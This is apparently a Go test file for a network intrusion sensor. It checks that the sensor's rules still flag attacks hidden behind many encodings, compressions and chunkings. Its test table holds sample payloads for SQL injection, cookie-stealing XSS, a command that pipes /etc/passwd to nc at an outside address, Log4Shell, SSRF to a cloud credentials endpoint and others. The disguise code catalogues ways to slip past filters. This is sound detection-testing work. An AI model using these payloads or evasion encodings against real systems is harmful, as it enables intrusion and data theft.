package sensor

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"fmt"
	"io"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/andybalholm/brotli"

	"spaniel/event"
	"spaniel/internal/wiretest"
)

// TestDisguisesChangeNothing sends one attack in every dress that a server takes
// off: encodings of the value, of the body, of the framing, cases and padding. Each
// gives the alert of the plain one, under the same id.
func TestDisguisesChangeNothing(t *testing.T) {
	set := shippedRules(t)
	for _, a := range []struct {
		rule, value string
		anyCase     bool // the interpreter does not mind
	}{
		{"sqli-in-input", "1' UNION SELECT password FROM users-- ", true},
		{"xss-in-input", "<script>alert(document.cookie)</script>", true},
		{"command-in-input", ";cat /etc/passwd | nc 203.0.113.9 4444", false},
		{"path-traversal", "../../../../../etc/passwd", false},
		{"log4shell", "${jndi:ldap://evil.example/a}", true},
		{"template-in-input", "{{''.__class__.__mro__[1].__subclasses__()}}", false},
		{"ssrf-in-input", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", false},
		{"ssi-in-input", `<!--#exec cmd="id"-->`, true},
		{"ldap-in-input", "*)(uid=*))(|(uid=*", false},
	} {
		var plain event.ID
		for i, d := range disguises(a.value, a.anyCase) {
			b := wiretest.New(1, 1773133200e9)
			c := b.Conn(netip.MustParseAddrPort("203.0.113.9:5001"), netip.MustParseAddrPort("10.0.0.5:80"))
			c.Open()
			c.Client(d.request)
			c.Server(wiretest.Response(200, `{"ok":true}`))
			alerts, err := Replay(testConfig(set), b.Frames())
			if err != nil {
				t.Fatal(err)
			}
			k := slices.IndexFunc(alerts, func(x *event.Alert) bool { return x.Rule.ID == a.rule })
			switch {
			case k < 0:
				t.Errorf("%s: not raised by %s: %.300q", a.rule, d.name, d.request)
			case i == 0:
				plain = alerts[k].ID
			case alerts[k].ID != plain:
				t.Errorf("%s: another id for %s", a.rule, d.name)
			}
		}
	}
}

type disguise struct {
	name    string
	request []byte
}

// disguises are requests that bring value, the plain one first.
func disguises(value string, anyCase bool) (list []disguise) {
	query := func(name, q string) {
		list = append(list, disguise{name, wiretest.Request("GET /items?" + q + " HTTP/1.1\n")})
	}
	post := func(name, media, body string, fields ...string) {
		list = append(list, disguise{name, wiretest.Request("POST /items HTTP/1.1\nContent-Type: " + media + "\n" + strings.Join(append(fields, ""), "\n") + "\n" + body)})
	}
	const form, padding = "application/x-www-form-urlencoded", "a=1&b=two&c=%20&"
	once := encoded(value, "%%%02x")
	query("a query", "q="+once)
	query("upper-case digits", "q="+encoded(value, "%%%02X"))
	query("percent signs twice", "q="+strings.ReplaceAll(once, "%", "%25"))
	query("percent signs three times", "q="+strings.ReplaceAll(once, "%", "%2525"))
	query("%u", "q="+encoded(value, "%%u%04x"))
	query("padding", strings.Repeat(padding, 60)+"q="+once+"&"+strings.Repeat(padding, 60))
	if anyCase {
		query("letters of both cases", "q="+encoded(mixed(value), "%%%02x"))
	}
	body := "q=" + once
	post("a form", form, body)
	// Beyond 1,000 values the others are one: what must be a whole value is lost there.
	post("a long form", form, strings.Repeat(padding, 300)+body)
	post("a JSON string", "application/json", `{"a":[1,{"q":"`+encoded(value, `\u%04x`)+`"}]}`)
	post("a part", "multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=q\r\n\r\n"+value+"\r\n--B--\r\n")
	post("chunks", form, chunked(body, 5, ""), "Transfer-Encoding: chunked")
	post("chunks of one byte, with extensions", form, chunked(body, 1, ";x=y"), "Transfer-Encoding: chunked")
	for name, w := range map[string]func(io.Writer) io.WriteCloser{
		"gzip":    func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) },
		"br":      func(w io.Writer) io.WriteCloser { return brotli.NewWriter(w) },
		"deflate": func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) },
	} {
		packed := pack(w, body)
		post(name, form, packed, "Content-Encoding: "+name)
		post(name+", twice", form, pack(w, packed), "Content-Encoding: "+name+", "+name)
		post(name+", in chunks", form, chunked(packed, 7, ""), "Content-Encoding: "+name, "Transfer-Encoding: chunked")
	}
	post("deflate without its wrapper", form, pack(func(w io.Writer) io.WriteCloser { z, _ := flate.NewWriter(w, 9); return z }, body), "Content-Encoding: deflate")
	return list
}

// encoded writes each byte in a format.
func encoded(s, format string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, format, s[i])
	}
	return b.String()
}

// mixed gives every second letter the other case.
func mixed(s string) string {
	b := []byte(s)
	for i := range b {
		if c := b[i] | 0x20; i%2 == 0 && 'a' <= c && c <= 'z' {
			b[i] ^= 0x20
		}
	}
	return string(b)
}

func chunked(s string, size int, extension string) string {
	var b strings.Builder
	for ; s != ""; s = s[min(size, len(s)):] {
		n := min(size, len(s))
		fmt.Fprintf(&b, "%x%s\r\n%s\r\n", n, extension, s[:n])
	}
	return b.String() + "0\r\n\r\n"
}

func pack(wrap func(io.Writer) io.WriteCloser, s string) string {
	var b bytes.Buffer
	w := wrap(&b)
	if _, err := io.WriteString(w, s); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.String()
}
